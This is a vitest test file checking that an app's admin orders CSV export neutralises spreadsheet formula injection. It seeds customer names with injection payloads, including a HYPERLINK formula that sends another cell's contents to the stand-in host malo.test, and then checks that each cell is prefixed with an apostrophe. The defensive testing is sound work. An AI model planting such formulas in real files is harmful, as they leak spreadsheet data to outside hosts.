import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetCsv } from '#lib/csv';
import { insertProduct } from './support/catalogue-fixtures';
import { placePaidOrder } from './support/order-fixtures';
import { useTestApp } from './support/test-app';
import { insertUser, type TestUser } from './support/user-fixtures';

/**
 * The accountant's file opened in a spreadsheet: a cell that starts like a formula (OWASP's CSV
 * injection list: = + - @ tab carriage return) is shown as text, never run.
 */
describe('CSV exports cannot carry a formula', () => {
  const { t } = useTestApp();
  let admin: TestUser;
  const attackers: TestUser[] = [];
  const firstNames = ['=HYPERLINK("https://malo.test/?"&D2;"Ver")', '+SUM(1;1)', '-2+3', '@cmd', '\tTab', '\rRetorno'];

  beforeAll(async () => {
    admin = await insertUser(t, { role: 'admin' });
    const burger = await insertProduct(t, { type: 'burgers', name: 'Clásica', price: 8000 });
    for (const [index, firstName] of firstNames.entries()) {
      // Emails may start with + or - (the address rule allows them).
      const email = `${index % 2 === 0 ? '+' : '-'}cuenta${index}-${Date.now()}@correo.test`;
      const user = await insertUser(t, { role: 'customer', firstName, lastName: 'Ataque', email });
      attackers.push(user);
      await placePaidOrder(t, user.token, { cart: [{ id: burger, cantidad: 1 }] });
    }
  });

  it("prefixes every such cell of the orders export with ' and leaves the others as they are", async () => {
    const res = await fetch(`${t.baseUrl}/api/admin/orders.csv`, { headers: { 'auth-token': admin.token } });
    expect(res.status).toBe(200);
    const records = parse(await res.text(), { bom: true, delimiter: ';', columns: true, relax_quotes: true }) as Array<
      Record<string, string>
    >;
    for (const user of attackers) {
      const row = records.find((record) => record.Email === `'${user.email}`);
      expect(row, user.email).toBeDefined();
      // The name cell is trimmed (a leading tab or CR goes); what still starts like a formula gets the '.
      const name = `${user.firstName} Ataque`.trim();
      expect(row!.Cliente).toBe(/^[=+\-@]/.test(name) ? `'${name}` : name);
    }
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(records[0]).toMatchObject({ Total: '8000,00', Estado: 'Pendiente' });
  });

  it('neutralises a cell starting with a tab or a carriage return as well', () => {
    const csv = spreadsheetCsv([['\tcmd', '\r=1+1', 'Ana', '12,50']]);
    expect(parse(csv, { bom: true, delimiter: ';' })).toEqual([["'\tcmd", "'\r=1+1", 'Ana', '12,50']]);
  });
});
